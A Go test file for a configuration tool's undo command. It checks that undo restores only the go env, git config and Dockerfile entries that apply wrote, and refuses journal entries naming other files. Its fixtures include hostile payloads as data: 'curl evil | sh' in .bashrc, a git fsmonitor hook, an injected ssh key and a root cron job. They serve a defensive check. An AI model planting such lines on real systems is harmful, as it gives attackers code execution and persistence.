package apply

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/gofix-net/gofix-net/pkg/journal"
	"github.com/gofix-net/gofix-net/pkg/nettest/need"
	"github.com/gofix-net/gofix-net/pkg/plan"
	"github.com/gofix-net/gofix-net/pkg/settings"
)

// TestUndoWritesOnlyWhatApplyWrites: an entry that names any other file is refused
// with its reason, and nothing is written, with --force neither.
func TestUndoWritesOnlyWhatApplyWrites(t *testing.T) {
	need.Long(t)
	goenv, git, file := settings.Go("GOPROXY"), settings.Git("url.https://a/.insteadof"), settings.HandWritten
	for _, c := range []struct {
		name, path string
		key        settings.Key
		before     string
		mode       os.FileMode
		reason     string // "": allowed
	}{
		{"the go env file", ".config/go/env", goenv, "GOPROXY=direct\n", 0o600, ""},
		{"the file of git", ".gitconfig", git, "[user]\n\tname = me\n", 0o600, ""},
		{"git's file below XDG", ".config/git/config", git, "[user]\n\tname = me\n", 0o600, ""},
		{"a file that git's includes", "work/included", git, "[user]\n\tname = me\n", 0o600, ""},
		{"a Dockerfile", "work/Dockerfile", settings.Key{Tool: file, Name: "x"}, "FROM golang\nENV GOPROXY=direct\n", 0o600, ""},
		{"a start-up file as go's", ".bashrc", goenv, "curl evil | sh\n", 0o600, notGoenv},
		{"a start-up file as git's", ".bashrc", git, "curl evil | sh\n", 0o600, notGit},
		{"a repository's own configuration", "work/.git/config", git, "[core]\n\tfsmonitor = evil\n", 0o600, notGit},
		{"an ssh key", ".ssh/authorized_keys", settings.Key{Tool: file, Name: "x"}, "ssh-ed25519 AAAA evil\n", 0o600, notLinted},
		{"another user's cron", "cron/root", goenv, "* * * * * root sh\n", 0o600, notGoenv},
		{"a hand-written file with other permissions", "work/Dockerfile", settings.Key{Tool: file, Name: "x"}, "FROM golang\nENV GOPROXY=direct\n", 0o777, notLinted},
		{"a variable of the system", ".config/go/env", settings.Variable("PATH"), "x", 0o600, badSteps},
	} {
		t.Run(c.name, func(t *testing.T) {
			home := t.TempDir()
			m := machine(home, "XDG_CONFIG_HOME="+filepath.Join(home, ".config"), "XDG_STATE_HOME="+filepath.Join(home, "state"))
			path := filepath.Join(home, filepath.FromSlash(c.path))
			must := func(err error) {
				if err != nil {
					t.Fatal(err)
				}
			}
			must(os.MkdirAll(filepath.Dir(path), 0o700))
			if c.path != ".gitconfig" {
				must(os.WriteFile(filepath.Join(home, ".gitconfig"), []byte("[include]\n\tpath = work/included\n"), 0o600))
			}
			const after = "left by the entry"
			must(os.WriteFile(path, []byte(after), 0o600))
			j, err := journal.Open(m)
			must(err)
			must(os.MkdirAll(j.Dir, 0o700))
			e := &journal.Entry{
				Format: 1, ID: "20260101-000000-aaaa", Started: time.Unix(0, 0), State: journal.Committed,
				Files: []journal.File{{Path: path, Target: path, Existed: true, Mode: c.mode, Before: []byte(c.before)}},
			}
			step, err := journal.NewStep(plan.Change{Key: c.key, To: val("x")}, 0, []byte(after))
			must(err)
			e.Steps = []journal.Step{step}
			data, err := json.Marshal(e)
			must(err)
			must(os.WriteFile(filepath.Join(j.Dir, e.ID+".json"), data, 0o600))
			s := read(t, m)
			s.Go.Path, s.Goenv.Path = "go", filepath.Join(home, ".config", "go", "env")
			_, err = Undo(t.Context(), Options{Machine: m, Settings: s}, "", true)
			held, readErr := os.ReadFile(path)
			must(readErr)
			if c.reason == "" {
				if err != nil || string(held) != c.before {
					t.Errorf("got %v and %q", err, held)
				}
				return
			}
			var target *TargetError
			if !errors.As(err, &target) || target.Reason != c.reason || string(held) != after {
				t.Errorf("got %v and %q, want the reason %s and nothing written", err, held, c.reason)
			}
		})
	}
}
